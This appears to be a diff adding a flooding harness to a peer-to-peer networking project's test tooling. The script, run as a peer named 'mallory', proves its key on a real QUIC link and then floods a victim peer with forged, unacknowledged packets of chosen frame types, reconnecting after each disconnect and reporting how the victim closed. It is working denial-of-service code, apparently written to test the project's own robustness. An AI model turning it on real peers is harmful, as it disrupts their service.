@@ -1,0 +1,320 @@
+"""
+A modified peer as a process: it proves its key on a real link, and then sends forged packets of one kind of
+frame, acknowledging nothing. Each link that the victim ends is followed by another, until the time is over.
+
+    python link_flooder.py RENDEZVOUS VICTIM SECONDS PACKETS_PER_SECOND KIND…
+
+Prints JSON lines: `registered`, and for each kind `began`, `call` (the victim has to call, since only a
+callee may send such frames) and `ended` with the figures.
+"""
+
+from __future__ import annotations
+
+import json
+import sys
+import time
+from collections.abc import Callable, Iterator, Sequence
+from functools import partial
+from itertools import chain, repeat
+from typing import Any
+
+from twisted.internet import reactor as global_reactor
+from twisted.internet.defer import Deferred
+from twisted.internet.interfaces import IDelayedCall
+
+import punch.link.core
+from punch.address_book import AddressBook
+from punch.clocks import use_monotonic_time
+from punch.identity import Identity, PeerID
+from punch.link.link import Link
+from punch.link.packet import CONNECTION_ID_LENGTH
+from punch.link.packet_protection import FrameType, PacketReader
+from punch.link.proof import SecretsLog
+from punch.link.quic import Qh3Backend, Qh3Connection
+from punch.link.quic_interface import QuicSink
+from punch.link.streams import encode_name
+from punch.peer.events import Connected, Disconnected, Event, Failed, Registered
+from punch.peer.node import Node
+from punch.test.flooder import CALLEE_FLOODS, FLOODS, ROOM, KeptSecrets, PacketWriter, integer, packed
+from punch.wire.control import Accept
+from punch.wire.rendezvous_address import RendezvousAddress
+
+reactor: Any = global_reactor
+
+PERIOD = 0.01
+"""Seconds between bursts of packets."""
+SETTLE = 0.3
+"""Seconds after which both sides have acknowledged what began the link."""
+PAUSE = 0.5
+"""Seconds between a link's end and the next call."""
+MOST_AT_ONCE = 64
+"""Packets of a burst that came late."""
+
+
+def big_pieces(number: int) -> bytes:
+    """Pieces as large as packets, on four streams, with gaps: all that flow control allows has to be kept."""
+    return (
+        b"\x0e"
+        + integer(8 + 4 * (number % 4))
+        + integer(1 + number // 4 * 1121)
+        + integer(1120)
+        + bytes(1120)
+    )
+
+
+MANY_RANGES = b"\x02" + integer(61) + b"\x00" + integer(30) + b"\x00" + b"\x00\x00" * 30
+"""An acknowledgement of 31 packets, of which each is followed by one that is missing."""
+
+PAYLOADS: dict[str, Callable[[], Iterator[bytes]]] = {
+    **{name: partial(packed, frame) for name, frame in (FLOODS | CALLEE_FLOODS).items()},
+    "PADDING": lambda: repeat(bytes(ROOM)),
+    # The first ones make the victim send more packets than are acknowledged then.
+    "ACK, ranges": lambda: chain(repeat(b"\x01" + bytes(20), 1000), repeat(MANY_RANGES * 16)),
+    "STREAM, large": lambda: packed(big_pieces),
+    "STREAMS_BLOCKED, one-way": lambda: packed(lambda number: b"\x17\x01"),
+    "MAX_STREAMS, one-way": lambda: packed(lambda number: b"\x13" + integer(1000 + number)),
+    "CONNECTION_CLOSE": lambda: packed(lambda number: b"\x1c\x00\x00\x00"),
+    "CONNECTION_CLOSE, application": lambda: packed(lambda number: b"\x1d\x00\x00"),
+}
+"""The payloads of each kind's packets, without end."""
+BY_CALLEE = frozenset(CALLEE_FLOODS)
+STREAM_OPEN = b"\x0a\x04" + integer(len(encode_name("chat/2"))) + encode_name("chat/2")
+"""The stream to which many of the frames belong is one that the victim takes."""
+
+
+def find_close(payload: bytes) -> str | None:
+    """The reason in a packet that closes the connection, behind acknowledgements."""
+    at = 0
+
+    def take() -> int:
+        nonlocal at
+        length = 1 << (payload[at] >> 6)
+        value = int.from_bytes(payload[at : at + length], "big") & ((1 << (8 * length - 2)) - 1)
+        at += length
+        return value
+
+    try:
+        while payload[at] in (FrameType.PADDING, FrameType.ACK):
+            if take() == FrameType.ACK:
+                take(), take()
+                for _ in range(2 * take() + 1):
+                    take()
+        application = payload[at] == 0x1D
+        if payload[at] not in (FrameType.CONNECTION_CLOSE, 0x1D):
+            return None
+        at += 1
+        code = take()
+        if not application:
+            take()
+        size = take()
+        return payload[at : at + size].decode(errors="replace") or f"code {code}"
+    except IndexError:
+        return None
+
+
+class FloodingConnection(Qh3Connection):
+    """A connection of qh3 that sends forged packets of its own from some time on."""
+
+    def __init__(self, *arguments: Any) -> None:
+        super().__init__(*arguments)
+        self.ended: str | None = None
+        self.sent = 0
+        self._told = False
+        self._writer: PacketWriter | None = None
+        self._payloads: Iterator[bytes] = iter(())
+        self._rate = 0.0
+        self._began = 0.0
+        self._latest = 0.0
+        self._remote_id = b""
+        self._replies: PacketReader | None = None
+
+    def binding(self) -> bytes:
+        flooding.append(self)
+        secret = self._secrets.receiving(self._configuration.is_client)
+        assert secret is not None
+        self._replies = PacketReader(secret)
+        return super().binding()
+
+    def flood(self, payloads: Iterator[bytes], rate: float, now: float) -> None:
+        """From now on, packets with these payloads, so many in a second, are all that is sent."""
+        assert isinstance(self._secrets, KeptSecrets)
+        is_client = self._configuration.is_client
+        secret = self._secrets.kept["CLIENT_TRAFFIC_SECRET_0" if is_client else "SERVER_TRAFFIC_SECRET_0"]
+        self._writer = PacketWriter(secret, self._remote_id)
+        self._payloads, self._rate, self._began, self._latest = payloads, rate, now, now
+
+    def receive(self, datagrams: Sequence[bytes], now: float) -> None:
+        # The library is not told: what is acknowledged are packets that it never sent.
+        if self._writer is None:
+            super().receive(datagrams, now)
+        for data in datagrams:
+            payload = None if self._replies is None else self._replies.read(data)
+            if payload and self.ended is None:
+                self.ended = find_close(payload)
+
+    def deliver(self, sink: QuicSink) -> None:
+        if self._writer is None:
+            super().deliver(sink)
+        elif self.ended is not None and not self._told:
+            self._told = True
+            sink.on_terminated(0, True, self.ended)
+
+    def datagrams_to_send(self, now: float) -> list[bytes]:
+        if self._writer is None:
+            datagrams = super().datagrams_to_send(now)
+            for data in datagrams:
+                if not data[0] & 0x80:
+                    self._remote_id = data[1 : 1 + CONNECTION_ID_LENGTH]
+            return datagrams
+        due = 0
+        if self.ended is None and now >= self._latest + PERIOD:
+            due = min(int((now - self._latest) * self._rate), MOST_AT_ONCE)
+            self._latest = now
+        self.sent += due
+        return [self._writer.packet(next(self._payloads)) for _ in range(due)]
+
+    def get_timer(self) -> float | None:
+        if self._writer is None:
+            return super().get_timer()
+        return self._latest + PERIOD if self.ended is None else None
+
+    def handle_timer(self, now: float) -> None:
+        if self._writer is None:
+            super().handle_timer(now)
+
+
+flooding: list[FloodingConnection] = []
+"""The connections that are proved, the newest last."""
+
+
+class FloodingBackend(Qh3Backend):
+    """qh3, with connections of the kind above that keep their secrets."""
+
+    def _connection(self, quic: Any, configuration: Any, secrets: SecretsLog) -> FloodingConnection:
+        from qh3.quic import events
+        from qh3.quic.connection import QuicConnectionError
+
+        kept = KeptSecrets()
+        configuration.secrets_log_file = kept
+        return FloodingConnection(quic, events, configuration, kept, (QuicConnectionError, ValueError))
+
+
+class Attacker:
+    """Floods one victim with one kind after the other."""
+
+    def __init__(
+        self, rendezvous: RendezvousAddress, victim: PeerID, seconds: float, rate: float, kinds: list[str]
+    ) -> None:
+        self._victim = victim
+        self._seconds, self._rate = seconds, rate
+        self._kinds = kinds
+        self._kind = ""
+        """What is sent now; empty while nothing is."""
+        self._registered = False
+        self._until: IDelayedCall | None = None
+        self._link: Link | None = None
+        self._connection: FloodingConnection | None = None
+        self._packets: list[int] = []
+        self._endings: dict[str, int] = {}
+        self._node = Node(
+            reactor=reactor,
+            identity=Identity.generate(),
+            name="mallory",
+            accept=Accept.ANYONE,
+            known=AddressBook(None),
+            rendezvous=rendezvous,
+            on_event=self._event,
+        )
+
+    def start(self) -> None:
+        """Register."""
+        self._node.startService()
+
+    def _event(self, event: Event) -> None:
+        if isinstance(event, Registered) and not self._registered:
+            self._registered = True
+            say("registered", id=str(self._node.identity.peer_id))
+            self._next_kind()
+        elif isinstance(event, Connected):
+            self._link = event.link
+            if self._kind:
+                reactor.callLater(SETTLE, self._flood, event.link)
+            else:
+                self._node.hangup(self._victim)
+        elif isinstance(event, Disconnected | Failed):
+            self._count()
+            self._endings[event.text] = self._endings.get(event.text, 0) + 1
+            self._link = None
+            if self._kind:
+                reactor.callLater(PAUSE, self._call, self._kind)
+
+    def _next_kind(self) -> None:
+        if not self._kinds:
+            stopping: Deferred[None] = self._node.stopService()
+            stopping.addCallback(lambda _: reactor.stop())
+            return
+        if self._link is not None:
+            reactor.callLater(PAUSE, self._next_kind)  # saying goodbye takes a second
+            return
+        self._kind = self._kinds.pop(0)
+        self._packets, self._endings = [], {}
+        self._until = None
+        say("began", kind=self._kind)
+        self._call(self._kind)
+
+    def _call(self, kind: str) -> None:
+        if kind != self._kind or self._link is not None:
+            return
+        if kind in BY_CALLEE:
+            say("call", kind=kind)
+        else:
+            self._node.call(self._victim)
+
+    def _flood(self, link: Link) -> None:
+        if link is not self._link or link.closed is not None:
+            return
+        self._connection = flooding[-1]
+        payloads = PAYLOADS[self._kind]()
+        if self._kind not in BY_CALLEE:
+            payloads = chain([STREAM_OPEN], payloads)
+        if self._until is None:
+            self._until = reactor.callLater(self._seconds, self._finish)
+        self._connection.flood(payloads, self._rate, time.monotonic())
+        link.schedule_flush()
+
+    def _count(self) -> None:
+        if self._connection is not None:
+            self._packets.append(self._connection.sent)
+            if self._connection.ended is not None:
+                ended = self._connection.ended
+                self._endings[ended] = self._endings.get(ended, 0) + 1
+            self._connection = None
+
+    def _finish(self) -> None:
+        self._count()
+        say("ended", kind=self._kind, packets=self._packets, endings=self._endings)
+        self._kind = ""
+        if self._link is not None:
+            self._node.hangup(self._victim)
+        reactor.callLater(2 * PAUSE, self._next_kind)
+
+
+def say(event: str, **fields: Any) -> None:
+    """One line to who has started this."""
+    print(json.dumps({"event": event, **fields}), flush=True)
+
+
+def main() -> None:
+    """Attack."""
+    rendezvous, victim, seconds, rate, *kinds = sys.argv[1:]
+    use_monotonic_time(reactor)
+    punch.link.core.Qh3Backend = FloodingBackend  # type: ignore[attr-defined]
+    attacker = Attacker(
+        RendezvousAddress.parse(rendezvous), PeerID.parse(victim), float(seconds), float(rate), kinds
+    )
+    reactor.callWhenRunning(attacker.start)
+    reactor.run()
+
+
+if __name__ == "__main__":
+    main()
